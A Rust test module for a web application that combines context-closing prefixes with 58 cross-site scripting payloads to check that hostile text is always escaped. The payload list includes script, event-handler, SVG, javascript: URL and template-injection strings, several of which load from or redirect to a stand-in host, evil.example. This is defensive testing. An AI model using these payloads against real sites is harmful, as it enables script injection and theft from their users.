//! Hostile texts through every field: they come back as text on every page, as text in every file, and never as a header
//! or a line of the log.
//!
//! A new form gets a line in `table`; a text that is kept gets a test that looks at every page that shows it.

mod addresses;
mod assessment;
mod files;
mod forms;
mod lines;
mod measured;
mod measures;
mod paths;
mod people;
mod table;
mod values;

pub(crate) use table::field_names;

use crate::html::{Judge, mark};
use crate::site::{Answer, Site};
use axum::http::StatusCode;
use std::collections::BTreeSet;

/// What closes whatever a text may stand in.
const BEFORE: [&str; 11] = [
    "",
    "\">",
    "' ",
    "\" ",
    "</textarea>",
    "</title>",
    "</script>",
    "</option></select>",
    "--><!--",
    "]]>",
    "\\\";",
];

/// What would run, load, frame or lead away.
const BODIES: [&str; 58] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x></script>",
    "<script type=module>import('//evil.example')</script>",
    "<script\u{c}>alert(1)</script>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=alert&lpar;1&rpar;>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1)\">",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#y></use></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<b style=background:url(//evil.example)>x</b>",
    "<p onmouseover=alert(1)>x</p>",
    "<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<leptos-island data-component=x data-props='{}'></leptos-island>",
    "onmouseover=alert(1) x=",
    "autofocus onfocus=alert(1) x=\"",
    "javascript:alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}#{7*7}<%= 7*7 %>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];

/// Every body behind every closing, each with a mark of its own at its end.
fn payloads() -> Vec<String> {
    payloads_from(0)
}

/// The same for tests elsewhere.
pub(crate) fn hostile() -> Vec<String> {
    payloads()
}

/// The same with marks that count from `first`, so that texts of several fields are told apart.
fn payloads_from(first: usize) -> Vec<String> {
    let pairs = BEFORE.iter().flat_map(|before| BODIES.iter().map(move |body| (before, body)));
    let all: Vec<_> = pairs
        .enumerate()
        .map(|(number, (before, body))| format!("{before}{body}{}", mark(first + number)))
        .collect();
    let distinct: BTreeSet<_> = all.iter().map(|text| text.split("zq").next()).collect();
    assert!(distinct.len() >= 500, "{}", distinct.len());
    all
}

/// As many as there are payloads, without anything special about them.
fn harmless(count: usize) -> Vec<String> {
    (0..count).map(|_| "Ein Text wie jeder andere".to_owned()).collect()
}

/// Texts put together, at most `max` characters at a time.
fn packed(texts: &[String], max: usize) -> Vec<String> {
    let mut packs: Vec<String> = Vec::new();
    for text in texts {
        match packs.last_mut() {
            Some(pack) if pack.chars().count() + text.chars().count() < max => {
                pack.push('\n');
                pack.push_str(text);
            }
            _ => packs.push(text.clone()),
        }
    }
    packs
}

/// The text where it fits, otherwise a harmless one.
fn short(text: &str) -> &str {
    if text.chars().count() <= 40 { text } else { "Kurz" }
}

fn all_shown(judge: &Judge, texts: usize) {
    judge.verdict();
    let missing: Vec<_> = (0..texts).filter(|n| !judge.shown.contains(n)).collect();
    assert!(missing.is_empty(), "never shown: {missing:?}");
}

/// Rows for several pages of the journal, so that what leads from one to the next is known beforehand.
async fn long_journal(site: &Site) {
    let rows = "FOR $n IN 0..160 { CREATE journal CONTENT { at: 1577836800000, who: 'Wer', act: 'measure_created',
        subject: 'measure', key: 'k', title: 't', changes: [], reason: '' } };";
    site.state.store.tamper(rows).await.expect("taken");
}

fn saved(answer: &Answer, what: &str) {
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{what}: {}", answer.text);
}
